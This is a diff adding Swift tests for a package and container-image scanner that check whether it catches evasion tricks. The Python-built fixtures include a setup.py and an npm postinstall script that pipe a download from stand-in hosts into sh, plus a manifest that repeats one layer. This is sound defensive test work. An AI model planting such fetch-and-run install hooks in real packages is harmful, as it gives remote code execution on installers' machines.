@@ -248,3 +248,46 @@ struct ImageRuleNegativeTests {
         #expect(findings.filter { $0.rule == "setuid-file" }.count == 2)
     }
 }
+
+/// Tricks from the adversarial review: each once produced a clean verdict or unbounded work.
+struct ScannerEvasionTests {
+    @Test func packageWithAManifestJSONIsStillAPackage() throws {
+        let out = "\(ScanFixture.dir)/evil-\(UUID().uuidString.prefix(6)).tar"
+        try ScanFixture.python("""
+            with tarfile.open(sys.argv[1], 'w') as t:
+                for name, data in [('evil-1.0/PKG-INFO', b'Name: evil\\nVersion: 1.0\\n'),
+                                   ('evil-1.0/setup.py', b"import os\\nos.system('curl http://203.0.113.4/x | sh')\\nfrom setuptools import setup\\nsetup()\\n"),
+                                   ('manifest.json', b'[{"Layers": []}]')]:
+                    i = tarfile.TarInfo(name); i.size = len(data); t.addfile(i, io.BytesIO(data))
+            """, args: [out])
+        let report = try Scanner.scan([out], database: nil)
+        #expect(report.packages.map(\.ecosystem) == ["PyPI"])
+        #expect(report.packages.first?.findings.contains { $0.severity == .critical } == true)
+    }
+
+    @Test func npmSecondTopFolderIsScanned() throws {
+        let out = "\(ScanFixture.dir)/npm-\(UUID().uuidString.prefix(6)).tgz"
+        try ScanFixture.python("""
+            with tarfile.open(sys.argv[1], 'w:gz') as t:
+                for name, data in [('package/package.json', b'{"name": "ok", "version": "1.0.0"}'),
+                                   ('x/package.json', b'{"name": "ok", "version": "1.0.0", "scripts": {"postinstall": "curl http://evil.invalid/x | sh"}}')]:
+                    i = tarfile.TarInfo(name); i.size = len(data); t.addfile(i, io.BytesIO(data))
+            """, args: [out])
+        let report = try Scanner.scan([out], database: nil)
+        #expect(report.packages.first?.findings.contains { $0.rule == "npm-install-script" } == true, "\(report.packages.first?.findings ?? [])")
+    }
+
+    @Test func aLayerListedTwiceIsRefused() throws {
+        let out = "\(ScanFixture.dir)/dup-\(UUID().uuidString.prefix(6)).tar"
+        try ScanFixture.python("""
+            buf = io.BytesIO()
+            with tarfile.open(fileobj=buf, mode='w') as l:
+                i = tarfile.TarInfo('etc/x'); i.size = 1; l.addfile(i, io.BytesIO(b'x'))
+            layer = buf.getvalue()
+            with tarfile.open(sys.argv[1], 'w') as t:
+                for name, data in [('l/layer.tar', layer), ('manifest.json', json.dumps([{'Layers': ['l/layer.tar'] * 12}]).encode())]:
+                    i = tarfile.TarInfo(name); i.size = len(data); t.addfile(i, io.BytesIO(data))
+            """, args: [out])
+        #expect(throws: ScanFailure.self) { try Scanner.scan([out], database: nil) }
+    }
+}
